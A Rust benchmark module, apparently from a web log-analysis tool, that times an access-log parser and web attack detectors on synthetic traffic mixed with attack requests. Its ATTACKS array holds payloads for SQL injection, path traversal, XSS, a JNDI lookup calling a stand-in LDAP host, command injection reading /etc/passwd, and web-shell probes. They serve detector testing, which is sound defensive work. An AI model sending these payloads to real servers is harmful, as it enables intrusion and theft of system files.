//! Access lines through parser, judge and every web detection: ordinary requests, the same with attacks among them, and a crowd.

use std::hint::black_box;
use std::net::Ipv4Addr;

use bartizan_config::Policy;
use bartizan_detect::detectors::web::WebDetectors;
use bartizan_logs::web::{AccessReader, Judge, judge};

use crate::ordinary::{Numbers, line};
use crate::{mib, now, rate, resident};

const LINES: usize = 200_000;
/// Lines of the crowd, and addresses that they come from.
const CROWD: u32 = 10_000_000;
const ADDRESSES: u32 = 1_000_000;

const ATTACKS: [&str; 7] = [
    "/item?id=1%20UNION%20SELECT%20null,version()--",
    "/index.php?page=../../../../etc/passwd",
    "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/?x=$%7Bjndi:ldap://203.0.113.9/a%7D",
    "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/.env",
    "/wp-content/uploads/c99.php",
];

/// What the log of a site mostly holds: pages, files, and what loads them, by visitors, a search engine and a monitor.
fn page(n: usize) -> String {
    let (client, second) = (n * 7919 % 5000, n / 50 % 60);
    let (target, referer) = match n % 10 {
        0 => (format!("/articles/{}/how-to-{}", n % 700, n % 91), "https://www.google.com/".to_owned()),
        1 => (format!("/shop/item?id={}&page={}", n % 9000, n % 12), "https://shop.example/shop".to_owned()),
        2 => ("/".to_owned(), "-".to_owned()),
        3 => (format!("/api/v1/orders/{}", n % 4000), "https://shop.example/account".to_owned()),
        _ => (format!("/assets/{}-{:08x}.{}", n % 40, n % 97, ["js", "css", "png", "woff2"][n % 4]), "https://shop.example/".to_owned()),
    };
    let status = if n.is_multiple_of(23) { 404 } else { 200 };
    let agent = [
        "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.5 Mobile/15E148 Safari/604.1",
        "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
    ][n % 3];
    format!(
        r#"203.{}.113.{} - - [28/Nov/2026:11:59:{second:02} +0000] "GET {target} HTTP/1.1" {status} {} "{referer}" "{agent}""#,
        client / 250,
        client % 250,
        n % 90_000
    )
}

fn detectors() -> WebDetectors {
    WebDetectors::new(&Policy::built_in().unwrap(), 0x5eed)
}

/// One row: lines a CPU second, and in how many of them an attack was found.
fn row(name: &str, lines: &[String]) -> (f64, String) {
    let reader = AccessReader::guessing();
    let (mut found, mut findings) = (0_u32, 0_u32);
    let (mut judge, mut detectors, at) = (Judge::default(), detectors(), now());
    let judged = rate(lines.len(), || {
        (found, findings) = (0, 0);
        for line in lines {
            let access = reader.read(line.as_bytes()).unwrap();
            let attacks = judge.judge(&access);
            found += u32::from(!attacks.is_empty());
            findings += u32::from(detectors.observe(&access, &attacks, at).is_some());
        }
    });
    (judged, format!("| {name} | {judged:.0} | {found} attack requests | |"))
}

/// The rows of the table.
pub(crate) fn rows() -> Vec<String> {
    let mut numbers = Numbers::new(20_261_128);
    let ordinary: Vec<String> = (0..LINES).map(|_| line(&mut numbers)).collect();
    let pages: Vec<String> = (0..LINES).map(page).collect();
    let attack = |(at, line): (usize, &String)| match at % 20 {
        0 => {
            let target = ATTACKS[at / 20 % ATTACKS.len()];
            format!(r#"203.0.113.{} - - [28/Nov/2026:11:59:00 +0000] "GET {target} HTTP/1.1" 404 5 "-" "curl/8""#, at / 20 % 250)
        }
        _ => line.clone(),
    };
    let mixed: Vec<String> = ordinary.iter().enumerate().map(attack).collect();
    let reader = AccessReader::guessing();
    // The rules compile at the first line.
    black_box(judge(&reader.read(mixed[0].as_bytes()).unwrap()));
    let parsed = rate(ordinary.len(), || {
        for line in &ordinary {
            black_box(reader.read(line.as_bytes()));
        }
    });
    let mut rows = vec![format!("| access lines, parsed | {parsed:.0} | | |")];
    let mut slowest = f64::MAX;
    for (name, lines) in [
        ("pages and files, all web detections", &pages),
        ("forms, searches, APIs, all web detections", &ordinary),
        ("every 20th an attack", &mixed),
    ] {
        let (judged, text) = row(name, lines);
        slowest = slowest.min(judged);
        rows.push(text);
    }
    assert!(slowest > 50_000.0, "{slowest:.0} lines a second: something is quadratic");
    rows
}

/// Ten million lines from a million addresses, one of ten an attack: memory stays where it was.
pub(crate) fn crowd() -> String {
    let before = resident();
    let (reader, mut judge, mut detectors) = (AccessReader::guessing(), Judge::default(), detectors());
    let (mut findings, at) = (0_u64, now());
    let began = crate::cpu();
    for n in 0..CROWD {
        let address = Ipv4Addr::from(0x0b00_0000 + n.wrapping_mul(2_654_435_761) % ADDRESSES);
        let target = if n.is_multiple_of(10) { ATTACKS[n as usize / 10 % ATTACKS.len()] } else { "/" };
        let line = format!(r#"{address} - - [28/Nov/2026:11:59:00 +0000] "GET {target} HTTP/1.1" 404 5 "-" "curl/8""#);
        let access = reader.read(line.as_bytes()).unwrap();
        findings += u64::from(detectors.observe(&access, &judge.judge(&access), at).is_some());
    }
    let (spent, grown) = (crate::cpu() - began, resident().saturating_sub(before));
    assert!(grown < 64 << 20, "{grown} bytes");
    format!(
        "{CROWD} access lines from {ADDRESSES} addresses, writing them included: {:.0} lines a CPU second; resident memory grew by {:.1} MiB; {findings} findings, {} campaign(s), {} clients crowded out",
        f64::from(CROWD) / spent.as_secs_f64(),
        mib(grown),
        detectors.campaigns().len(),
        detectors.counts().crowded_out
    )
}
